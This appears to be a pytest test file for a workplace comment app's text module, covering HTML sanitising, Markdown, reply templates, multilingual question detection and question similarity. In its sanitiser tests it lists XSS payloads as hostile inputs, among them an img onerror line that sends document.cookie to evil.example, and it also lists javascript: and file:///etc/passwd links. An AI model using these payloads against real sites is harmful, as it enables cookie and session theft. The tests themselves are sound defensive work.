"""Text handling without Qt: sanitising hostile HTML, Markdown, reply templates, grouping
similar questions, and classifying comments."""

from __future__ import annotations

import statistics
from functools import cache
from pathlib import Path

import pytest

from app.errors import UserError
from app.sandbox import corpus
from app.sandbox.seed import build_seed
from app.text import lexicon, similarity
from app.text.asking import is_question, questions_among, sentences
from app.text.classify import html_to_text, mentions
from app.text.link_schemes import is_openable_link
from app.text.markdown import to_html
from app.text.sanitize import comment_for_display, sanitize_html
from app.text.templates import VARIABLES, check_template, personalise, quote

# --- sanitising untrusted comment HTML ------------------------------------------------------

#: (hostile input, text that must not survive anywhere in the output)
HOSTILE = [
    ("<p>Hi<script>alert('xss')</script></p>", "alert"),
    ("<p>Hi<SCRIPT SRC=//evil.example/x.js></SCRIPT></p>", "evil"),
    ('<p onclick="steal()">Thanks</p>', "steal"),
    ("<p onmouseover=steal()>Thanks</p>", "onmouseover"),
    ("<b onload='x()'>b</b>", "onload"),
    ("<img src=x onerror=\"fetch('http://evil.example/'+document.cookie)\">", "onerror"),
    ('<img src="http://tracker.example.net/pixel.gif?u=1">', "tracker"),
    ('<p style="background:url(http://tracker.example.net/p.gif)">x</p>', "tracker"),
    ("<style>body{display:none}</style><p>Agree</p>", "display"),
    ('<link rel=stylesheet href="http://evil.example/s.css">', "evil"),
    ('<iframe src="http://evil.example/frame"></iframe><p>Interesting</p>', "iframe"),
    ('<frameset><frame src="http://evil.example"></frameset>', "evil"),
    ('<object data="http://evil.example/x.swf">o</object>', "evil"),
    ('<embed src="http://evil.example/x.swf">', "evil"),
    ('<form action="http://evil.example/"><input name=pw><button>Go</button></form>', "input"),
    ('<form action="http://evil.example/">f</form>', "form"),
    ('<svg onload="alert(1)"><circle r=1 /></svg>', "alert"),
    ('<math><maction actiontype="statusline">x</maction></math>', "maction"),
    ('<meta http-equiv="refresh" content="0;url=http://evil.example">', "evil"),
    ('<base href="http://evil.example/">', "evil"),
    ("<p>a<!-- <script>alert(1)</script> -->b</p>", "alert"),
    ('<video src="http://evil.example/v.mp4" autoplay></video>', "evil"),
    ('<audio src="http://evil.example/a.mp3"></audio>', "evil"),
    ('<p background="http://tracker.example.net/bg.gif">x</p>', "tracker"),
]

BAD_LINKS = [
    "javascript:alert(document.cookie)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java&#x09;script:alert(1)",
    "&#106;avascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml;base64,PHN2Zz4=",
    "file:///etc/passwd",
    "file://server/share/payroll.xlsx",
    "ftp://files.example/x",
    "smb://server/share",
    "tel:+15555555",
]


@pytest.mark.parametrize(("hostile", "marker"), HOSTILE)
def test_hostile_markup_is_removed(hostile: str, marker: str) -> None:
    clean = sanitize_html(hostile)
    assert marker.lower() not in clean.lower()
    for tag in (
        "<script",
        "<style",
        "<img",
        "<iframe",
        "<form",
        "<input",
        "<svg",
        "<meta",
        "<base",
        "<link",
        "<object",
        "<embed",
        "style=",
        " on",
    ):
        assert tag not in clean.lower()


def test_the_text_around_hostile_markup_survives() -> None:
    assert sanitize_html("<p>Great news!<script>alert('xss')</script></p>") == "<p>Great news!</p>"
    assert sanitize_html('<p onclick="steal()">Thanks for sharing.</p>') == (
        "<p>Thanks for sharing.</p>"
    )
    assert sanitize_html('<iframe src="http://e.example"></iframe><p>Interesting.</p>').endswith(
        "<p>Interesting.</p>"
    )


@pytest.mark.parametrize("href", BAD_LINKS)
def test_links_other_than_http_https_mailto_lose_their_target(href: str) -> None:
    clean = sanitize_html(f'<a href="{href}">Click for the real FAQ</a>')
    assert "href" not in clean
    assert "Click for the real FAQ" in clean


@pytest.mark.parametrize(
    "href",
    ["https://intranet.example/faq", "http://example.com/a?b=1", "mailto:people@example.com"],
)
def test_good_links_keep_their_target_and_get_rel(href: str) -> None:
    clean = sanitize_html(f'<a href="{href}" target="_blank" title="FAQ">FAQ</a>')
    assert f'href="{href.replace("&", "&amp;")}"' in clean
    assert 'rel="noopener noreferrer"' in clean
    assert "target" not in clean and 'title="FAQ"' in clean


@pytest.mark.parametrize("href", ["//evil.example/x", "/relative/path", "#top", "?q=1"])
def test_relative_links_lose_their_target(href: str) -> None:
    assert "href" not in sanitize_html(f'<a href="{href}">x</a>')


def test_allowed_formatting_is_kept_and_attributes_dropped() -> None:
    html = (
        '<p class="x" id="y"><b>b</b> <strong>s</strong> <i>i</i> <em>e</em> <u>u</u> '
        "<s>s</s> <code>c</code></p><ul><li>one</li></ul><ol><li>two</li></ol>"
        "<blockquote>q</blockquote><pre>p</pre><br><span>sp</span>"
    )
    clean = sanitize_html(html)
    for tag in (
        "<b>",
        "<strong>",
        "<i>",
        "<em>",
        "<u>",
        "<s>",
        "<code>",
        "<ul>",
        "<ol>",
        "<li>",
        "<blockquote>",
        "<pre>",
        "<br>",
        "<span>",
        "<p>",
    ):
        assert tag in clean
    assert "class=" not in clean and "id=" not in clean


def test_comment_html_gets_no_document_tags() -> None:
    assert sanitize_html("<h1>Big</h1><table><tr><td>t</td></tr></table>") == "Bigt"


def test_escaped_markup_stays_escaped() -> None:
    assert sanitize_html("<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>") == (
        "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>"
    )


@pytest.mark.parametrize(
    ("url", "openable"),
    [
        ("https://example.com", True),
        ("HTTP://EXAMPLE.COM", True),
        ("mailto:a@b.example", True),
        ("javascript:alert(1)", False),
        ("data:text/html,x", False),
        ("file:///etc/passwd", False),
        ("ftp://x.example", False),
        ("//evil.example", False),
        ("/relative", False),
        ("", False),
        ("about:blank", False),
        ("https", False),
    ],
)
def test_only_http_https_mailto_links_open(url: str, openable: bool) -> None:
    assert is_openable_link(url) is openable


# --- Markdown ---------------------------------------------------------------------------------


def test_markdown_renders_and_escapes_raw_html() -> None:
    html = to_html(
        "# Title\n\n**bold** and <b>raw</b> <script>alert(1)</script>\n\n"
        "| a | b |\n|---|---|\n| 1 | 2 |\n\n~~gone~~"
    )
    assert "<h1>Title</h1>" in html and "<strong>bold</strong>" in html
    assert "&lt;b&gt;raw&lt;/b&gt;" in html and "<script" not in html
    assert "<table>" in html and "<td>2</td>" in html and "<s>gone</s>" in html


def test_markdown_links_and_images_are_safe() -> None:
    html = to_html(
        "[ok](https://example.com) [bad](javascript:alert(1)) "
        "![pixel](http://tracker.example.net/p.gif)"
    )
    assert '<a href="https://example.com" rel="noopener noreferrer">ok</a>' in html
    assert 'href="javascript' not in html
    assert "<img" not in html and 'tracker.example.net/p.gif"' not in html


# --- reply templates --------------------------------------------------------------------------


def test_every_variable_is_filled() -> None:
    text = personalise(
        "Hi {first_name} ({name}),\n\n{question}\n\nThanks!",
        "Amara Okafor",
        "Will the reorg\n affect   bonuses?",
    ).text
    assert text == ("Hi Amara (Amara Okafor),\n\n> Will the reorg affect bonuses?\n\nThanks!")


@pytest.mark.parametrize(
    ("template", "named"),
    [
        ("Hi {firstname}", "{firstname}"),
        ("Hi {First_Name}", "{First_Name}"),
        ("{name.__class__}", "{name.__class__}"),
        ("{name[0]}", "{name[0]}"),
        ("{0} and {}", "{0}"),
        ("{a} {b} {a}", "{a}, {b}"),
    ],
)
def test_unknown_variables_are_named(template: str, named: str) -> None:
    with pytest.raises(UserError, match="Unknown variable") as caught:
        check_template(template)
    assert named in str(caught.value)
    assert all(f"{{{v}}}" in str(caught.value) for v in VARIABLES)  # and what to use instead


@pytest.mark.parametrize(
    "template", ["Hi {first_name", "Hi first_name}", "{", "}", "Costs {name} } less", "{{name}"]
)
def test_stray_braces_are_refused_with_the_fix(template: str) -> None:
    with pytest.raises(UserError, match=r"unmatched brace.*\{\{ or \}\}"):
        check_template(template)


def test_doubled_braces_are_literal() -> None:
    assert personalise("Use {{first_name}} for {first_name}", "Omar Haddad", "q").text == (
        "Use {first_name} for Omar"
    )


def test_braces_in_names_and_comments_are_never_interpreted() -> None:
    text = personalise("{first_name}: {question}", "{name} {0}", "What is {first_name}? {").text
    assert text == "{name}: > What is {first_name}?"


def test_preview_refuses_before_filling_anything() -> None:
    with pytest.raises(UserError):
        personalise("Hi {nmae}", "Amara Okafor", "q")


def test_single_word_and_empty_names() -> None:
    assert personalise("Hi {first_name}!", "Cher", "q").text == "Hi Cher!"
    assert personalise("Hi {first_name}!", "  ", "q").text == "Hi   !"


@pytest.mark.parametrize(
    ("comment", "quoted"),
    [
        ("Great post! How do we apply? Thanks.", "> How do we apply?"),
        ("Love it. When does it start? And who runs it?", "> When does it start? And who runs it?"),
        ('He asked "is it paid?" Good point.', '> He asked "is it paid?"'),
        ("Can we expand this to Lisbon?", "> Can we expand this to Lisbon?"),
        ("Is invoice.pdf v3.5 final? Thanks.", "> Is invoice.pdf v3.5 final?"),
        ("ありがとうございます。大阪にも影響がありますか？", "> 大阪にも影響がありますか？"),
        ("شكرا. متى سيتم إطلاق التطبيق؟ ننتظر", "> متى سيتم إطلاق التطبيق؟"),
        ("Thanks. I'd love to know whether it ends", "> I'd love to know whether it ends"),
        ("ありがとう。大阪にも影響がありますか。よろしく。", "> 大阪にも影響がありますか。"),
    ],
)
def test_question_quotes_only_the_question_sentences(comment: str, quoted: str) -> None:
    made = personalise("{question}", "Ann Lee", comment)
    assert made.text == quoted
    assert not made.no_question


def test_a_comment_without_a_question_is_flagged() -> None:
    made = personalise("Hi {first_name}\n\n{question}", "Ann Lee", "This. Exactly this.")
    assert made.no_question
    assert "Exactly this" not in made.text  # at most its first sentence, flagged
    assert not personalise("Hi {first_name}", "Ann Lee", "This. Exactly this.").no_question


def test_names_and_questions_are_cleaned_for_display() -> None:
    made = personalise(
        "Hi {first_name} / {name}: {question}", "Ann\u202e Lee\u200b", "Is\u2066 it \u200bpaid?"
    )
    assert made.text == "Hi Ann / Ann Lee: > Is it paid?"


@pytest.mark.parametrize(
    ("body", "why"),
    [
        ("<b>a</b>" * 1_500, "1,000 tags"),  # short in characters, cut at the tag budget
        ("<p>" + "word " * 50_000 + "</p>", "characters"),
    ],
)
def test_a_cut_comment_says_why_it_was_cut(body: str, why: str) -> None:
    shown = comment_for_display(body)
    assert "the rest is not displayed" in shown and why in shown


def test_quote_shortens_at_a_word_boundary() -> None:
    long = "word " * 100
    quoted = quote(long, limit=22)
    assert quoted == "> word word word word…"
    assert quote("short", limit=22) == "> short"


# --- similar questions ------------------------------------------------------------------------


def _similar(
    target: str,
    candidates: dict,
    threshold: float = similarity.THRESHOLD,
    frequencies: similarity.DocFrequencies | None = None,
) -> list:
    """The word scorer's verdict (``similarity.scores``): candidates scoring at least
    ``threshold``, best first."""
    scored = similarity.scores(target, candidates, frequencies)
    return [i for s, i in sorted(((-s, i) for i, s in scored.items() if s >= threshold))]


def test_the_documented_example_is_found() -> None:
    candidates = {
        1: "How does the reorg change our bonus?",
        2: "Why is parking full again?",
        3: "Is the canteen food any good?",
    }
    assert _similar("bonus payouts after the reorg", candidates) == [1]


def test_most_similar_first_and_threshold() -> None:
    candidates = {
        1: "Will bonuses, payroll and pensions change after the reorg?",
        2: "Will the reorg change bonuses?",
        3: "When does the canteen open?",
    }
    assert _similar("Does the reorg affect my bonus?", candidates) == [2, 1]
    assert _similar("Does the reorg affect my bonus?", candidates, threshold=1.01) == []


def test_nothing_to_compare() -> None:
    assert _similar("the and of", {1: "the and of?"}) == []
    assert _similar("", {1: "anything?"}) == []
    assert _similar("bonus", {}) == []
    assert _similar("Will bonuses change?", {1: "Bonuses change."}) == []  # no question


@pytest.mark.parametrize(
    ("word", "root"),
    [
        ("bonuses", "bonus"),
        ("bonus", "bonus"),
        ("payouts", "payout"),
        ("change", "chang"),
        ("changed", "chang"),
        ("changing", "chang"),
        ("changes", "chang"),
        ("policies", "policy"),
        ("hiring", "hire"),
        ("hired", "hire"),
        ("cutting", "cut"),
        ("site", "site"),
        ("sit", "sit"),
        ("status", "status"),
        ("glass", "glass"),
        ("analysis", "analysis"),
        ("quickly", "quick"),
        ("training", "training"),
    ],
)
def test_stem(word: str, root: str) -> None:
    assert similarity.stem(word) == root


@pytest.mark.parametrize(
    ("sentence", "found"),
    [
        ("Thanks! How does THIS affect our bonuses, ok?", {"~effect", "~bonus"}),
        ("Honest question: is my job safe?", {"~job_loss"}),
        ("Will they cut our headcount?", {"~job_loss"}),
        ("Are there going to be redundancies?", {"~job_loss"}),
        ("Must we come in three days a week?", {"~office", "thre"}),
        ("@Dana when is the next town hall?", {"town", "hall"}),
        ("Café opening hours?", {"cafe", "open", "hour"}),
    ],
)
def test_features_drop_framing_and_meet_on_concepts(sentence: str, found: set[str]) -> None:
    assert similarity.features(sentence) == found


def test_sentences_split_where_questions_end() -> None:
    assert sentences("Quick one: is it on? Nobody knows.\nThanks e.g. you?!") == [
        "Quick one:",
        "is it on?",
        "Nobody knows.",
        "Thanks e.g.",
        "you?!",
    ]
    assert sentences("感谢分享。之后还会有裁员吗？谢谢！") == [
        "感谢分享。",
        "之后还会有裁员吗？",
        "谢谢！",
    ]
    assert sentences("شكرا. هل تم تسريب البيانات؟ ننتظر") == [
        "شكرا.",
        "هل تم تسريب البيانات؟",
        "ننتظر",
    ]


def test_paraphrases_are_found_and_filler_does_not_match() -> None:
    """The reviewer's example: paraphrases share no word, the false friend shares filler."""
    candidates = {
        1: "Are we using AI to cut headcount?",
        2: "Thanks for the update. What does the AI push mean for my job security?",
        3: "Where are we all going to sit on Tuesdays? Nobody in Sales seems to know.",
        4: "Thanks for the update. Asking for my team in Leeds.",
    }
    asker = "Be straight with us: is AI going to take our jobs? Nobody in Sales seems to know."
    assert sorted(_similar(asker, candidates)) == [1, 2]


@pytest.mark.parametrize(
    ("question", "paraphrase"),
    [
        ("Are layoffs coming?", "Should we expect job cuts this year?"),
        ("Is my job secure after the restructuring?", "Will roles be eliminated in the reorg?"),
        ("When is the bonus paid out?", "When do incentive payouts land?"),
        ("How many days in the office from now on?", "What is the new hybrid policy?"),
        ("Can I get an exemption from office days as a carer?", "Flexibility for parents?"),
        ("Will there be a hiring freeze?", "Can we still backfill vacancies?"),
        ("When will the AI assistant be rolled out?", "When do we get access to copilot?"),
    ],
)
def test_everyday_paraphrases_meet(question: str, paraphrase: str) -> None:
    """Workplace wording the sandbox never uses: the lexicon is general, not a copy."""
    assert _similar(question, {1: paraphrase}) == [1]


@cache
def _seeded_comments() -> tuple[dict[str, str], dict[str, str | None]]:
    """The sandbox's seeded comments (others', not deleted): text and question cluster."""
    rows = [r for r in build_seed().comments if not r["deleted"] and r["author_id"] != "u1"]
    return (
        {r["id"]: html_to_text(r["body_html"]) for r in rows},
        {r["id"]: r["cluster"] for r in rows},
    )


def test_question_clusters_are_found_among_real_comments() -> None:
    """Five askers per cluster, against every seeded comment, with rarity over them all:
    most of what is returned asks the same thing (precision), and most of the others
    asking it are found (recall). Measured 0.90 and 0.81 (it was about 0.2 recall with
    TF-IDF over whole comments); the floors leave a small margin.
    """
    text, cluster = _seeded_comments()
    freq = similarity.DocFrequencies.from_texts(text.values())
    precision, recall = [], []
    for name in corpus.QUESTION_CLUSTERS:
        askers = [i for i, c in cluster.items() if c == name][:5]
        others = {i for i, c in cluster.items() if c == name}
        for asker in askers:
            hits = [i for i in _similar(text[asker], text, frequencies=freq)]
            hits = [i for i in hits if i != asker]
            same = [i for i in hits if cluster[i] == name]
            precision.append(len(same) / len(hits) if hits else 0.0)
            recall.append(len(same) / (len(others) - 1))
    assert statistics.mean(precision) >= 0.87
    assert statistics.mean(recall) >= 0.76


def test_unrelated_remarks_do_not_match_questions() -> None:
    questions = {
        i: p
        for i, p in enumerate(
            p for _, phrasings, _ in corpus.QUESTION_CLUSTERS.values() for p in phrasings
        )
    }
    for remark in (
        "Agreed.",
        "This. Exactly this.",
        "Love this. More updates like this, please.",
        "Really appreciate the transparency here.",
    ):
        assert _similar(remark, questions) == []


def test_rarity_from_word_counts_and_learned_words() -> None:
    """Counts as FTS5's vocabulary gives them: words sum into their concept."""
    vocabulary = [("layoffs", 40), ("redundancies", 20), ("bonus", 10), ("bonuses", 5)]
    freq = similarity.DocFrequencies.from_vocabulary(vocabulary, docs=1000)
    assert freq.counts["~job_loss"] >= 60
    assert freq.counts["~bonus"] >= 15
    assert freq.weight("~bonus") > freq.weight("~job_loss")
    assert freq.unknown_words(["Is the gym menu changing?"]) == ["gym", "menu"]
    freq.learn(["gym", "menu"], [("gym", 7)])
    assert freq.counts["gym"] == 7 and freq.counts["menu"] == 0
    assert freq.unknown_words(["Is the gym menu changing?"]) == []
    assert freq.weight("menu") > freq.weight("gym")


def test_the_lexicon_is_general_vocabulary() -> None:
    """Short workplace words and phrases, never the sandbox's sentences."""
    source = Path(similarity.__file__).with_name("lexicon.py").read_text(encoding="utf-8")
    assert "sandbox" not in source.split('"""', 2)[2]
    phrasings = {
        p.lower().rstrip("?") for _, ps, _ in corpus.QUESTION_CLUSTERS.values() for p in ps
    }
    for entries in lexicon.CONCEPTS.values():
        for entry in entries:
            assert len(entry.split()) <= 4 and entry not in phrasings


# --- classifying comments ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("<p>First.</p><p>Second &amp; third.</p>", "First. Second & third."),
        ("line<br>two<br/>three<BR />four", "line two three four"),
        ("<ul><li>one</li><li>two</li></ul>", "one two"),
        ("<div>a</div><div>b</div>", "a b"),
        ("<p>Great news!<script>alert('xss')</script></p>", "Great news!"),
        ("<style>p{color:red}</style><p>Styled</p>", "Styled"),
        ('<a href="https://x.example">the <b>FAQ</b></a>', "the FAQ"),
        ("<p>5 &lt; 6 &#8212; caf&eacute;</p>", "5 < 6 — café"),
        ("  <p>\n spaced \t out </p> ", "spaced out"),
        ("", ""),
    ],
)
def test_html_to_text(html: str, text: str) -> None:
    assert html_to_text(html) == text


@pytest.mark.parametrize(
    ("text", "asks"),
    [
        ("Will the reorg affect our bonuses?", True),
        ("Is this real", True),
        ("Thanks for the update. Can you share the slides", True),
        ("Any news on parking", True),
        ("Great post!\nHow do we apply", True),
        ("I know how this works.", False),
        ("Whoever wrote this, thank you.", False),
        ("Island sites are great.", False),
        ("Doesn't matter to me.", False),
        ("", False),
        ("AIの導入で配車担当の仕事はなくなるのでしょうか？", True),  # fullwidth mark
        ("هل تم تسريب البيانات الشخصية للموظفين؟", True),  # Arabic mark
        ("¿Hay novedades sobre el bonus", True),
        ("大阪オフィスにも影響がありますか。", True),  # question particles, no mark
        ("之后还会有裁员吗。", True),
        ("재택근무는 계속 가능합니까.", True),
        ("Quick question: is the canteen open over Christmas", True),
        ("Thanks Marta. I'd love to know whether there will be a merit increase", True),
        ("Wondering if the shuttle bus runs on Saturdays", True),
        ("Interesting read. Curious what others in Sales think.", False),
        ("So proud of this team.", False),
        ("So is everyone else.", False),
        ("What a year!", False),  # exclamations
        ("How proud I am of this team.", False),
        ("Who knew the cafe could be this good.", False),
        ("ありがとうございます。", False),
        ("そうですか。", False),  # "I see"
        ("給料とか。", False),
        ("타운홀에서 만나요!", False),  # "see you at the town hall"
        ("열심히 했으니까요.", False),  # "because we worked hard"
        ("같이 할까요.", True),
        # rhetorical and social questions ask nothing
        ("Who else loved the offsite? 🎉", False),
        ("Is it Friday yet?", False),
        ("What could possibly go wrong 😂", False),
        ("Who thought 4 days in the office was a good idea? Honestly.", False),
        ("Isn't it great to finally see the fleet going electric?", False),
        ("¿En serio? Otra vez lo mismo...", False),
        ("¿Quién más está deseando ver la nueva app? 🚀", False),
        ("Wer hätte gedacht, dass wir so ein Quartal hinlegen? 💪", False),
        ("Who else loved the offsite? When is the next one?", True),
        # statements that open like questions, their subject left out
        ("Can't wait to see how this one goes 😂", False),
        ("Did the fire safety module yesterday. 40 minutes well spent.", False),
        ("Would have made a huge difference when my twins were born.", False),
        ("Will do, thanks!", False),
        ("Would love to see more of this.", False),
        ("Was great to see everyone.", False),
        ("Have a great weekend all", False),
        ("So is everyone else.", False),
        ("Honestly, what you heard on the visits feels rushed.", False),
        # questions without a mark
        ("honest q - can you promise there wont be further redundancies", True),
        ("bottom line: did they get customer info or not", True),
        ("@Payroll Team when is STIP going out this yr", True),
        ("so is the 3 day thing policed or not", True),
        ("vans at home still a thing or not", True),
        ("Were staff records compromised too - NI numbers, bank details etc", True),
        ("There are 140 desks and 260 of us. Has anyone done the maths", True),
        ("If my store shuts can I transfer to another one or am I out", True),
        ("38 stores... which ones tho 👀", True),
        ("whats the dress code for the gala", True),
        ("MFA keeps failing on the new phones, is there a fix coming", True),
        ("Might be a silly question but what's an OKR", True),
        ("bonus date pls 🙏", True),
        ("list of affected stores pls", True),
        ("Please tell me we're closed on boxing day 🙏", True),
        ("Keen to understand what streamlining means for the branches.", True),
        ("Would like to know when the bonus is paid", True),
        ("I guess what I'm wondering is whether we should update our CVs.", True),
        ("Kurze Frage: bleibt es bei 3 Tagen mobilem Arbeiten oder nicht", True),
        ("Czy premia będzie wypłacona w grudniu", True),
        ("Prim ödemesi aralıkta mı yapılacak", True),
        ("Mi piace molto questa iniziativa", False),  # "mi" is not Turkish here
        ("Будут ли сокращения в филиалах", True),
        ("พนักงานหน้าร้านได้โบนัสด้วยไหมคะ", True),
        ("Va-t-il y avoir une prime cette année", True),
        ("Merci pour le rendez-vous", False),
        ("Nhân viên bán thời gian có được thưởng không", True),
        ("야간 근무조도 해당되나요", True),
        ("Thanks for the add-on, works fine", False),
        # found by review: statements, offers and asides that read as questions once
        ("Had the best time at the offsite", False),
        ("Was my pleasure", False),
        ("Has my vote", False),
        ("So do I.", False),
        ("Let me know if you need anything", False),
        ("Please let me know if you have questions", False),
        ("Tell me about it", False),
        ("@Sam will keep you posted", False),
        ("@Sam when you get a chance", False),
        ("Shout out to @Ana - who led the project", False),
        ("Does not work for me", False),
        ("Why not.", False),
        # ... and questions they missed
        ("Also is it paid", True),
        ("When are we getting paid!!", True),
        ("Who else is affected by this?", True),
        ("Why not?", True),
        ("Hola equipo, ¿cuándo se paga el bono", True),
        ("I was wondering when the policy starts", True),
        ("anyone know the wifi password", True),
        ("Great news...when do we get it", True),
        # found by a second review
        ("Est-ce qu'on aura une prime cette année", True),
        ("Por que a empresa mudou a política", True),
        ("hey, does anyone know if the cafeteria takes cards now", True),
        ("When we will get the bonus", True),  # no inversion, as many write
        ('When you say "right-sizing", how many people are we talking', True),
        ("Just wanted to ask if the bonus is taxed", True),
        ("Gilt das auch für Azubis", True),
        ("Werden die Filialen geschlossen", True),
        ("Geldt dit ook voor uitzendkrachten", True),
        ("Quién se encarga de las nóminas", True),
        ("Pourriez-vous préciser la date", True),
        ("Did it!", False),
        ("Let me know if there is anything I can do", False),
        ("Should you have any questions, please contact HR", False),
        ("Any questions, let me know", False),
        ("Will ask my manager", False),
        ("What great news", False),
        ("Yes, correct", False),
        ("Need a break after this week", False),
        ("Wann immer ihr Fragen habt, meldet euch", False),
        ("Habt ihr Fragen, meldet euch", False),
        ("Policy is here: https://hr.example.com/policy?id=42 thanks all", False),
        ("Interesting read. Curious what others in Sales think.", False),
        # a question its writer answers or disowns, and complaints shaped as questions
        ("Could we have done this by email? Yes we could.", False),
        ("Are we surprised? Nope.", False),
        ("Who signed this off? Rhetorical, obviously.", False),
        ("Who approved the new rota? (not expecting an answer)", False),
        ("Is parking still free? No? Then where do we park", True),
        ("Is parking still free? Yes or no.", True),
        ("Why is it always the night shift that hears last", False),
        ("How is anyone supposed to plan leave like this?", False),
        ("Who needs weekends anyway 🙃", False),
        ("Who needs to sign the form?", True),
        ("What's not to like 😂", False),
        ("We're supposed to be thankful for a 2% rise?", False),
        # ... and questions without a mark in more shapes and languages
        ("The canteen closes in March 🤔", True),
        ("どのシフトが対象なのか教えてください。", True),  # inside a word, as Japanese writes
        ("有人知道新食堂几点开", True),
        ("周末食堂开不开", True),
        ("Ca đêm có thay đổi gì không ạ", True),
        ("Không có gì", False),  # "you're welcome"
        ("Ada yang tahu jadwal bonus tahun ini", True),
        ("shift malam tetap dapat tunjangan atau tidak", True),
        ("Siapa sangka kita juara lagi 🥳", False),
        ("وماذا عن موظفي المستودعات", True),
        ("A co z premią świąteczną", True),
        ("Benieuwd wanneer de bonus komt", True),
        ("Benieuwd hoe dit gaat uitpakken", False),
        ("Quid des intérimaires", True),
        ("Gibt's dazu schon einen Termin", True),
        ("Das neue System kommt im Mai – oder ist das noch offen", True),
        ("बोनस इस साल मिलेगा या नहीं", True),
        # requests to share, send or confirm, in the words each language uses
        ("Pásanos el enlace de la grabación porfa", True),
        ("@Lucía me confirmas la fecha del curso", True),
        ("Vous pouvez partager le replay svp", True),
        ("Et le télétravail, on en est où", True),
        ("Potete condividere la registrazione", True),
        ("Kunnen jullie de presentatie nog delen", True),
        ("Folien bitte noch teilen", True),
        ("Podeślijcie nagranie", True),
        ("Kan ni dela inspelningen", True),
        ("Скиньте ссылку на запись", True),
        ("資料を共有してください", True),
        ("麻烦发一下会议纪要", True),
        ("자료 공유 부탁드립니다", True),
        ("잘 부탁드립니다", False),  # "I look forward to working with you"
        ("ممكن ترسلون رابط التسجيل", True),
        ("Tolong kirim rekamannya", True),
        ("รบกวนส่งสไลด์ให้หน่อยครับ", True),
        # ... answered, idioms, and questions after an emoji or a longer lead-in
        ("Will it work this time? Probably not.", False),
        ("Who saw this coming? Nobody.", False),
        ("Why am I not surprised", False),
        ("Great news on the bonus 🎉 when does it land", True),
        ("Has a date been set for the move", True),
        ("Sorry if I missed this on Monday - is the canteen closing", True),
    ],
)
def test_is_question(text: str, asks: bool) -> None:
    assert is_question(text) is asks


@pytest.mark.parametrize(
    ("said", "asked"),
    [
        (["Thanks.", "Is it paid in March?", "Can you share them."], ["Is it paid in March?"]),
        (["Who else loved it?", "Can you share the slides."], ["Can you share the slides."]),
        (["Is it confirmed?!", "Nobody told us."], ["Is it confirmed?!"]),
        (["Great update.", "Who else loved it?"], []),
    ],
)
def test_questions_among_prefers_marked_ones_and_skips_rhetorical(
    said: list[str], asked: list[str]
) -> None:
    assert questions_among(said) == asked


@pytest.mark.parametrize(
    ("text", "mentioned"),
    [
        ("@Dana could you clarify?", True),
        ("Thanks @dana!", True),
        ("@Dana Whitfield will there be a town hall?", True),
        ("Dana, thanks for this.", False),
        ("@Danielle can you check?", False),
        ("@Danaë was here", False),
        ("@Whitfield hello", False),
    ],
)
def test_mentions(text: str, mentioned: bool) -> None:
    assert mentions(text, "Dana Whitfield") is mentioned


def test_mentions_with_odd_names() -> None:
    assert mentions("@Dana (CEO) thanks", "Dana (CEO)") is True
    assert mentions("@anyone", "") is False
    assert mentions("@anyone", "   ") is False


def test_an_email_address_is_not_a_mention() -> None:
    assert mentions("Write to hr@dana.example for details.", "Dana Whitfield") is False
